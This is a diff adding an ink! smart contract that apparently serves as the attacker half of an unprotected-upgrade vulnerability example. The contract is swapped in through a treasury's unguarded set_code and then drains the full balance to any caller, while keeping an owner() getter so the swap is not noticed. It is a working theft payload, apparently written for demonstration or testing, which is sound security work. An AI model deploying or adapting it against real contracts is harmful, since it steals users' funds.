@@ -0,0 +1,44 @@
+/*
+ * ATTACKER CONTRACT FOR ../unprotected_upgrade.rs - DO NOT DEPLOY
+ *
+ * Never instantiated: the attacker only uploads this code and passes its
+ * hash to the treasury's set_code. Its storage starts with the same owner
+ * field so the treasury's existing state still decodes; drain then sends
+ * everything the treasury holds to whoever calls it.
+ */
+
+#![cfg_attr(not(feature = "std"), no_std, no_main)]
+
+#[ink::contract]
+pub mod unprotected_upgrade_attacker {
+    #[ink(storage)]
+    pub struct Takeover {
+        owner: AccountId,
+    }
+
+    impl Takeover {
+        #[ink(constructor)]
+        pub fn new(owner: AccountId) -> Self {
+            Self { owner }
+        }
+
+        /// Sends the contract's whole balance, less the existential
+        /// deposit, to the caller
+        #[ink(message)]
+        pub fn drain(&mut self) {
+            let loot = self
+                .env()
+                .balance()
+                .saturating_sub(self.env().minimum_balance());
+            self.env()
+                .transfer(self.env().caller(), loot)
+                .expect("transfer failed");
+        }
+
+        /// Kept so the takeover looks like the treasury it replaced
+        #[ink(message)]
+        pub fn owner(&self) -> AccountId {
+            self.owner
+        }
+    }
+}